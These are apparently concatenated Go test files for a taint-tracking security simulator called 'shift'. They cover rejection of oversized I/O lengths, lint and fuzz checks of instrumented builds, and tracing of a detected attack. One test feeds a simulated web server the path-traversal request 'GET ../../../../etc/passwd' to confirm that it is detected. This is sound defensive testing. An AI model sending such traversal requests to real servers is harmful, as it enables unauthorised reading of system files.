	int huge = 16 * 1024 * 1024;
	if (read(0, buf, 0 - 1) != -1) exit(1);
	if (read(0, buf, huge) != -1) exit(2);
	if (write(1, buf, 0 - 1) != -1) exit(3);
	if (recv(buf, 0 - 1) != -1) exit(4);
	if (send(buf, 0 - 1) != -1) exit(5);
	if (html_write(buf, 0 - 1) != -1) exit(6);
	if (getarg(0, buf, 0) != -1) exit(7);
	if (getarg(0, buf, 0 - 1) != -1) exit(8);
	// The channels stay usable after a rejected request.
	if (read(0, buf, 4) != 4) exit(9);
	if (buf[0] != 'd') exit(10);
	exit(0);
}
`
	world := NewWorld()
	world.Stdin = []byte("data")
	world.Args = []string{"argv0"}
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 0 {
		t.Fatalf("exit=%d", res.ExitStatus)
	}
	if res.Cycles > 10_000_000 {
		t.Errorf("rejected transfers still charged %d cycles", res.Cycles)
	}
	if len(res.World.Stdout) != 0 || len(res.World.NetOut) != 0 || len(res.World.HTMLOut) != 0 {
		t.Errorf("rejected transfers produced output: stdout=%q netout=%q htmlout=%q",
			res.World.Stdout, res.World.NetOut, res.World.HTMLOut)
	}
}
