package shift

import (
	"testing"

	"shift/internal/machine"
	"shift/internal/staticcheck"
	"shift/internal/taint"
)

// lintModes cycles the option space the corpus and fuzz lints sweep:
// both granularities, each enhancement, the ablations, and the
// optimization/serialization/guard variants.
var lintModes = []Options{
	{Granularity: taint.Byte},
	{Granularity: taint.Word},
	{Granularity: taint.Byte, Features: machine.Features{SetClrNaT: true}},
	{Granularity: taint.Byte, Features: machine.Features{SetClrNaT: true, NaTAwareCmp: true}},
	{Granularity: taint.Byte, Optimize: true},
	{Granularity: taint.Byte, SerializedTags: true},
	{Granularity: taint.Word, UserGuards: true},
	{Granularity: taint.Byte, NaTPerFunction: true},
}

// TestLintCorpus holds the zero-false-positive bar: a hundred-plus
// generated programs, instrumented across the whole option matrix, must
// all satisfy the static contract. (Build itself gates on the checker;
// the explicit Check below keeps the property visible even if that gate
// is ever relaxed.)
func TestLintCorpus(t *testing.T) {
	seeds := 104
	if testing.Short() {
		seeds = 16
	}
	for seed := 0; seed < seeds; seed++ {
		opt := lintModes[seed%len(lintModes)]
		opt.Instrument = true
		prog, err := Build([]Source{{Name: "lint.mc", Text: generate(int64(seed))}}, opt)
		if err != nil {
			t.Fatalf("seed %d (%+v): %v", seed, opt, err)
		}
		if fs := staticcheck.Check(prog); len(fs) > 0 {
			t.Errorf("seed %d (%+v): %d finding(s), first: %s", seed, opt, len(fs), fs[0].String())
		}
	}
}

// FuzzLintInstrumented fuzzes the same property over (program seed,
// option bits): whatever the pass emits, the analyzer must prove the
// contract — any finding is a pass bug or an analyzer unsoundness.
func FuzzLintInstrumented(f *testing.F) {
	f.Add(int64(1), uint8(0))
	f.Add(int64(7), uint8(3))
	f.Add(int64(42), uint8(0x15))
	f.Add(int64(99), uint8(0xff))
	f.Fuzz(func(t *testing.T, seed int64, mode uint8) {
		opt := Options{Instrument: true, Granularity: taint.Byte}
		if mode&1 != 0 {
			opt.Granularity = taint.Word
		}
		if mode&2 != 0 {
			opt.Features.SetClrNaT = true
		}
		if mode&4 != 0 {
			opt.Features.NaTAwareCmp = true
		}
		if mode&8 != 0 {
			opt.Optimize = true
		}
		if mode&16 != 0 {
			opt.SerializedTags = true
		}
		if mode&32 != 0 {
			opt.UserGuards = true
		}
		if mode&64 != 0 {
			opt.NaTPerFunction = true
		}
		if mode&128 != 0 {
			opt.NaTPerUse = true
		}
		prog, err := Build([]Source{{Name: "fuzzlint.mc", Text: generate(seed)}}, opt)
		if err != nil {
			t.Fatalf("seed %d mode %#x: %v", seed, mode, err)
		}
		if fs := staticcheck.Check(prog); len(fs) > 0 {
			t.Fatalf("seed %d mode %#x: %d finding(s), first: %s", seed, mode, len(fs), fs[0].String())
		}
	})
}
