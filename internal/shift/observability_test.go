package shift_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"shift/internal/metrics"
	"shift/internal/shift"
	"shift/internal/trace"
	"shift/internal/workload"
)

// A traced webserver attack run must record the full lifecycle — taint
// birth on the network channel, tag-bitmap writes, the failing policy
// check — and the forensic report must tie the violation back to the
// tainted input through both provenance and the trace tail.
func TestTracedViolationReport(t *testing.T) {
	world := shift.NewWorld()
	req := make([]byte, workload.HTTPDRequestSize)
	copy(req, "GET ../../../../etc/passwd")
	world.NetIn = req

	tr := trace.New(0)
	reg := metrics.NewRegistry()
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		world,
		shift.Options{Instrument: true, Policy: workload.HTTPDConfig(), Trace: tr, Metrics: reg})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil {
		t.Fatal("traversal went undetected")
	}

	var sawTaint, sawTagWrite, sawCheck, sawViolation bool
	for _, ev := range tr.Events() {
		switch ev.Kind {
		case trace.KindTaint:
			if ev.Name == "network" {
				sawTaint = true
			}
		case trace.KindTagWrite:
			sawTagWrite = true
		case trace.KindPolicyCheck:
			if ev.Name == "open" {
				sawCheck = true
			}
		case trace.KindViolation:
			sawViolation = true
		}
	}
	if !sawTaint || !sawTagWrite || !sawCheck || !sawViolation {
		t.Errorf("lifecycle incomplete: taint=%v tagWrite=%v check=%v violation=%v",
			sawTaint, sawTagWrite, sawCheck, sawViolation)
	}

	rep := res.Report()
	if rep == nil {
		t.Fatal("no forensic report for an alerted run")
	}
	if len(rep.Trail) == 0 {
		t.Fatal("report carries no trace tail")
	}
	// The tail must cover the tainted input's provenance: the network
	// birth event and the violation that ended the run.
	var tailTaint, tailViolation bool
	for _, ev := range rep.Trail {
		if ev.Kind == trace.KindTaint && ev.Name == "network" {
			tailTaint = true
		}
		if ev.Kind == trace.KindViolation {
			tailViolation = true
		}
	}
	if !tailTaint || !tailViolation {
		t.Errorf("trace tail does not cover the provenance chain: taint=%v violation=%v", tailTaint, tailViolation)
	}
	if len(rep.Provenance) == 0 || rep.Provenance[0].Channel != "network" {
		t.Errorf("provenance = %+v, want the network channel", rep.Provenance)
	}
	text := rep.String()
	for _, want := range []string{"violation:", "signature:", "provenance:", "trace tail", "name=network"} {
		if !strings.Contains(text, want) {
			t.Errorf("report text missing %q:\n%s", want, text)
		}
	}

	// The metrics side saw the same run.
	if reg.Counter("shift_tag_writes_total").Value() == 0 {
		t.Error("no tag writes counted on an instrumented run")
	}
	var sb strings.Builder
	if err := reg.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"shift_tlb_hits ", "shift_tlb_misses ", "shift_syscall_cycles_bucket"} {
		if !strings.Contains(sb.String(), want) {
			t.Errorf("exposition missing %q", want)
		}
	}
}

// The JSONL export of a real run must parse line by line — the contract
// the external tooling (and Perfetto via the Chrome export) relies on.
func TestTraceExportsParse(t *testing.T) {
	world := workload.HTTPDWorld(3, 512)
	tr := trace.New(0)
	if _, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		world,
		shift.Options{Instrument: true, Policy: workload.HTTPDConfig(), Trace: tr}); err != nil {
		t.Fatal(err)
	}
	if tr.Total() == 0 {
		t.Fatal("traced run recorded nothing")
	}

	var jsonl bytes.Buffer
	if err := tr.WriteJSONL(&jsonl); err != nil {
		t.Fatal(err)
	}
	lines := 0
	sc := bufio.NewScanner(&jsonl)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var ev trace.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %d %q: %v", lines+1, sc.Text(), err)
		}
		lines++
	}
	if sc.Err() != nil {
		t.Fatal(sc.Err())
	}
	if lines == 0 {
		t.Fatal("empty JSONL export")
	}

	var chrome bytes.Buffer
	if err := tr.WriteChromeTrace(&chrome); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []json.RawMessage `json:"traceEvents"`
	}
	if err := json.Unmarshal(chrome.Bytes(), &doc); err != nil {
		t.Fatalf("Chrome export is not a trace document: %v", err)
	}
	if len(doc.TraceEvents) != lines {
		t.Errorf("Chrome export has %d events, JSONL has %d", len(doc.TraceEvents), lines)
	}
}

// Tracing plus the lockstep oracle share the retirement stream through
// MultiHook; both must observe the run.
func TestTraceComposesWithOracle(t *testing.T) {
	world := workload.HTTPDWorld(2, 256)
	tr := trace.New(0)
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		world,
		shift.Options{Instrument: true, Policy: workload.HTTPDConfig(), Trace: tr, Oracle: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil {
		t.Fatalf("oracle+trace run trapped: %v", res.Trap)
	}
	if res.Oracle == nil || res.Oracle.Stats.Steps == 0 {
		t.Fatal("oracle saw no steps with tracing attached")
	}
	if tr.Total() == 0 {
		t.Fatal("tracer saw no events with the oracle attached")
	}
}

// An untraced run must leave no observability state behind — the
// zero-cost default path.
func TestUntracedRunHasNoTrace(t *testing.T) {
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		workload.HTTPDWorld(1, 128),
		shift.Options{Instrument: true, Policy: workload.HTTPDConfig()})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trace != nil || res.World.Trace != nil {
		t.Error("untraced run carries a tracer")
	}
}
